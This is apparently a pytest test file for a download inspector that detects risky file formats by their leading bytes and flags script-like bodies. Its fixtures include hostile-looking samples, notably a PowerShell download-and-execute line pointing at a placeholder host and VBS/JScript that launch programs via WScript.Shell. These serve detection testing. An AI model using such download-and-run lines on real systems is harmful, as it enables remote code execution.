"""How bodies begin: dangerous formats are named, what browsers show is not (about 1 s)."""

import base64
import bz2
import gzip
import lzma
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
import zstandard
from hypothesis import given, settings
from hypothesis import strategies as st

from proxykit.archives import v7
from proxykit.samples import seven, tarred, zipped
from secondlook.download.body.body_type import declared
from secondlook.download.body.inspection import BodyLook
from secondlook.download.body.signatures import (
    BEHIND_HEAD_BYTES,
    SIGNATURES,
    archive_behind,
    is_binary,
    is_media,
    is_page,
    is_tar,
    may_begin,
    risky_signature,
    script_signature,
)

ISO = bytes(32768) + b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + bytes(4096)
BOOT = b"\xeb\x3c\x90MSDOS5.0".ljust(510, b"\x12") + b"\x55\xaa" + b"\xf8\xff\xff" * 200
VBS = b'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n'


SAMPLES = {
    "pe": lambda: b"MZ\x90\0" + bytes(60),
    "elf": lambda: Path(sys.executable).resolve().read_bytes()[:600],
    "zip": lambda: zipped({"a.txt": b"x"}),
    "7z": lambda: seven({"a": b"x"}),
    "gzip": lambda: gzip.compress(b"x"),
    "bzip2": lambda: bz2.compress(b"x"),
    "xz": lambda: lzma.compress(b"x"),
    "lzma": lambda: lzma.compress(b"x", lzma.FORMAT_ALONE),
    "uuencode": lambda: b"begin 644 a.exe\n#0V%T\n`\nend\n",
    "zstd": lambda: zstandard.ZstdCompressor().compress(b"x"),
    "rtf": lambda: rb"{\rtf1\ansi hello}",
    "hta": lambda: b"<html><head><HTA:APPLICATION id=x></head><script>x</script></html>",
    "blank": lambda: ISO,
    "disk image": lambda: BOOT,
    "wim": lambda: b"MSWIM\0\0\0" + bytes(200),
    "lnk": lambda: bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56),
    "onenote": lambda: bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(100),
    "chm": lambda: b"ITSF\3\0\0\0",
    "vhd": lambda: b"conectix\0\0\0\2",
    "vhdx": lambda: b"vhdxfile" + "Microsoft".encode("utf-16-le"),
    "cab": lambda: b"MSCF\0\0\0\0",
    "ace": lambda: b"\x12\x34\x31\0\0\0\x90**ACE**\x14",
    "ole": lambda: base64.b64decode("0M8R4KGxGuE=") + bytes(500),
    "ar": lambda: b"!<arch>\ndebian-binary   ",
    "rpm": lambda: b"\xed\xab\xee\xdb\3\0",
    "xar": lambda: b"xar!\0\x1c\0\1",
    "flash": lambda: b"CWS\x0a",
    "java or mach-o": lambda: b"\xca\xfe\xba\xbe\0\0\0\x34",
    "lha": lambda: b"\x19\x9c-lh5-" + bytes(40),
    "arj": lambda: b"\x60\xea\x29\0",
    "rar": lambda: b"Rar!\x1a\x07\x01\0",
    "cpio": lambda: b"070701000000",
    "shortcut": lambda: b"[InternetShortcut]\r\nURL=file://x",
    "access": lambda: b"\0\1\0\0Standard ACE DB\0",
    "applescript": lambda: b"FasdUAS 1.101.10\x0e\0",
    "plist": lambda: b"bplist00\xd1\1\2SURL",
    "lua": lambda: b"\x1bLua\x54\0",
    "tar": lambda: tarred({"a": b"x"}),
}


@pytest.mark.parametrize("kind", SAMPLES)
def test_every_dangerous_format_is_named(kind):
    data = SAMPLES[kind]()
    assert risky_signature(data) == kind
    first = next((size for size in range(1, len(data)) if risky_signature(data[:size])), len(data))
    if kind not in {"ace", "hta", "tar", "disk image"}:  # their marks stand behind what may be a text
        for size in range(1, min(first, 20)):
            look = BodyLook(
                declared("image/png", None, "/"), None, kinds=frozenset(), ratio=1, layers=1, multipart=False
            )
            look.feed(data[:size])
            look.judge()
            assert look.undecided(), size  # while so few are there, the body waits


@pytest.mark.parametrize("size", [1, 3, 16, 4096, 0xC000, 1 << 16, 3 << 15, 8 << 20, 3 << 30, 0xFFFFFFFF])
def test_lzma_is_known_whatever_dictionary_it_asks_for(size):
    data = bytearray(lzma.compress(b"hello", lzma.FORMAT_ALONE))
    data[1:5] = size.to_bytes(4, "little")
    opened = subprocess.run(["xz", "-dc"], input=bytes(data), capture_output=True, check=False)
    assert opened.stdout == b"hello"
    assert risky_signature(bytes(data)) == "lzma"


@pytest.mark.parametrize(
    "name", [b"MZ.txt", b"\x7fELF", b"PK\x03\x04", b"\x1f\x8b\x08", b"readme", b"\xff\xfe\xe9"]
)
@pytest.mark.parametrize("signed", [False, True])
def test_a_tar_is_one_whatever_its_first_name_looks_like(name, signed):
    data = v7(name, b"hello", signed=signed)
    assert (is_tar(data), risky_signature(data)) == (True, "tar")
    assert not is_tar(data[:511])
    assert not is_tar(bytes([data[0] ^ 1]) + data[1:])
    listed = subprocess.run(["tar", "-tf", "-"], input=data, capture_output=True, check=False)
    if not signed and name[:1] != b"\x1f":
        assert listed.returncode == 0  # GNU tar agrees


SCRIPTS = {
    "vbs": VBS,
    "vbs with a comment": b"' invoice\r\nDim a",
    "vbs of utf-16": VBS.decode().encode("utf-16"),
    "bat": b"@echo off\r\nstart calc\r\n",
    "ps1": b"$u = 'http://x/'; IEX (New-Object Net.WebClient).DownloadString($u)",
    "ps1 with parameters": b"param(\n  [string]$x\n)",
    "js": b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");',
    "wsf": b'<?xml version="1.0"?><package><job id="x"><script language="VBScript">x</script></job></package>',
    "sct": b'<?XML version="1.0"?><scriptlet><registration></registration></scriptlet>',
    "msc": b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"></MMC_ConsoleFile>',
    "url behind another section": b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\nURL=x",
    "url of utf-16": "[InternetShortcut]\r\nURL=file://x/y\r\n".encode("utf-16"),
    "url in small letters": b"\xef\xbb\xbf\r\n[internetshortcut]\r\nURL=x",
    "desktop behind a comment": b"#!/x\n[Desktop Entry]\nExec=sh -c x\n",
    "webloc, terminal": b'<?xml version="1.0"?>\n<plist version="1.0"><dict><key>URL</key></dict></plist>',
    "appinstaller": b'<?xml version="1.0"?>\n<AppInstaller Uri="https://x/y" Version="1.0.0.0">',
    "application": b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1">',
    "library-ms": b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">',
    "search-ms": b'<?xml version="1.0"?><persistedQuery version="1.0">',
    "searchconnector-ms": b'<?xml version="1.0"?><searchConnectorDescription xmlns="x">',
    "settingcontent-ms": b'<?xml version="1.0"?><PCSettings><SearchableContent>',
    "diagcfg": b'<?xml version="1.0"?><dcmPS:DiagnosticPackage SchemaVersion="1.0">',
    "wsc": b'<?xml version="1.0"?><component><script language="VBScript">',
    "csproj": b'<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">',
    "xsl": b'<?xml version="1.0"?><stylesheet xmlns:user="urn:schemas-microsoft-com:xslt">',
    "word of xml": b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument>',
    "rdp": "screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n".encode("utf-16"),
    "theme": b"; a theme\r\n[Theme]\r\nDisplayName=x\r\n",
    "inf": b"; a comment\r\n[DefaultInstall.NT]\r\nRunPreSetupCommands=x\r\n",
    "udl": "[oledb]\r\nProvider=x\r\n".encode("utf-16"),
    "iqy": b"WEB\r\n1\r\nhttp://x/y\r\n",
    "oqy": b"QueryType=OLEDB\r\nVersion=1\r\n",
    "slk": b"ID;PWXL;N;E\r\n",
    "mht": b"From: <Saved>\r\nSnapshot-Content-Location: http://x/\r\n",
    "eml": b'Received: from x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n',
}


@pytest.mark.parametrize("kind", SCRIPTS)
def test_a_text_that_is_a_script_is_named(kind):
    assert script_signature(SCRIPTS[kind]) == "script"


@pytest.mark.parametrize(
    "text",
    [
        b"Hello there, this is a text.\n",
        b"2026-11-28 12:00:00 INFO started\n",
        b"name,value\na,1\n",
        b'{"a": 1}',
        b"User-agent: *\nDisallow: /\n",
        b"[theme] is what we call it\n[shell]: see there\n",
        b"[core]\nbare = false\n[remote]\nurl = x\n",
        b"<html><body><p>Jobs</p></body></html>",
        b'<?xml version="1.0"?><rss><channel/></rss>',
    ],
)
def test_other_texts_are_not(text):
    assert script_signature(text) is None
    assert not is_binary(text)


MEDIA = {
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF",
    "gif": b"GIF89a\x01\0\x01\0",
    "webp": b"RIFF\x24\0\0\0WEBPVP8 ",
    "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0",
    "webm": b"\x1a\x45\xdf\xa3\x01\0\0\0",
    "ts": (b"G\x40\0\x10" + b"\xff" * 184) * 4,
    "mp3": b"\xff\xfb\x90\x64\0\0",
    "mp3 with tags": b"ID3\x04\0\0",
    "ogg": b"OggS\0\2",
    "woff2": b"wOF2\0\1\0\0",
    "wasm": b"\0asm\1\0\0\0",
    "playlist": b"#EXTM3U\n#EXT-X-VERSION:3\n",
}


@pytest.mark.parametrize("kind", MEDIA)
def test_what_browsers_play_is_no_download_whatever_it_is_called(kind):
    assert is_media(MEDIA[kind])
    assert risky_signature(MEDIA[kind]) is None
    assert not _look(MEDIA[kind], "application/octet-stream").risky


@pytest.mark.parametrize(
    "text", [b"GIF89a=1;\r\nWScript.Echo 1\r\n", b"BM12345678 = 1\n", (b"G" + b" " * 187) * 3]
)
def test_a_script_that_begins_like_a_picture_is_none(text):
    assert not is_media(text)


@pytest.mark.parametrize(
    ("kind", "body", "risky"),
    [
        ("application/octet-stream", VBS, True),
        ("application/octet-stream", b"nothing that anybody knows", True),
        ("application/octet-stream", b"<html>saved as it is</html>", True),
        ("application/force-download", VBS, True),
        ("application/x-download", VBS, True),
        ("binary/octet-stream", VBS, True),
        ("nonsense", VBS, True),
        (None, VBS, True),
        (None, b"<!DOCTYPE html><p>a page", False),
        (None, b'{"a": 1}', False),
        (None, b"", False),
        ("text/plain", VBS, True),
        ("text/plain", b"hello", False),
        ("text/plain", b"\x01\x02\x03", True),
        ("text/html", VBS, False),
        ("image/png", VBS, False),
        ("text/javascript", b"alert(1)", False),
        ("application/json", b"[1]", False),
        ("application/x-strange", b"abc", True),
    ],
)
def test_what_a_browser_would_save_is_a_download(kind, body, risky):
    look = _look(body, kind)
    assert look.risky is risky
    assert look.unshown is (risky and look.signature is None)


def test_a_part_of_a_page_is_saved_nowhere():
    said = declared("application/octet-stream", None, "/level1", part=True)
    assert not said.saved
    assert declared("application/json", "attachment; filename=f.txt", "/suggest", part=True).risky is False
    assert declared("application/zip", "attachment", "/x", part=True).risky is True


@settings(max_examples=300, deadline=None)
@given(first=st.binary(max_size=600), at=st.integers(0, 600), table=st.sampled_from(SIGNATURES))
def test_what_begins_like_a_signature_is_risky_in_any_pieces(first, at, table):
    """A body is risky if and only if its first bytes, however they come, begin like one of the table's formats."""
    offset, mark, _ = table
    data = (first.ljust(offset, b"x")[:offset] + mark + first)[:2048]
    for piece in (data, data[:at]):
        named = risky_signature(piece)
        assert named is not None or len(piece) < offset + len(mark)
    for part in (first, first[:at]):
        is_media(part), is_page(part), script_signature(part), is_tar(part), may_begin(part)


def _look(body: bytes, kind: str | None) -> BodyLook:
    said = declared(kind, None, "/thing")
    look = BodyLook(said, None, kinds=frozenset(), ratio=100, layers=4, multipart=False)
    look.feed(body)
    look.end()
    look.conclude()
    return look


def test_an_archive_behind_other_bytes_is_known_by_the_sum_of_its_head():
    start = bytes(range(20))
    seven = b"7z\xbc\xaf\x27\x1c\0\4" + zlib.crc32(start).to_bytes(4, "little") + start
    four = b"\x73\0\0\x0d\0" + bytes(6)
    rar4 = b"Rar!\x1a\x07\0" + (zlib.crc32(four) & 0xFFFF).to_bytes(2, "little") + four
    rar5 = b"Rar!\x1a\x07\1\0" + zlib.crc32(b"\3\1\0\0").to_bytes(4, "little") + b"\3\1\0\0"
    for kind, head in (("7z", seven), ("rar", rar4), ("rar", rar5)):
        data = b"x" * 1000 + head + bytes(BEHIND_HEAD_BYTES)
        assert archive_behind(data) == (kind, 1000)
        assert archive_behind(data[: 1000 + BEHIND_HEAD_BYTES - 1]) is None
        for at in (8, len(head) - 1):
            broken = bytearray(data)
            broken[1000 + at] ^= 0x40
            assert archive_behind(bytes(broken)) is None, (kind, at)
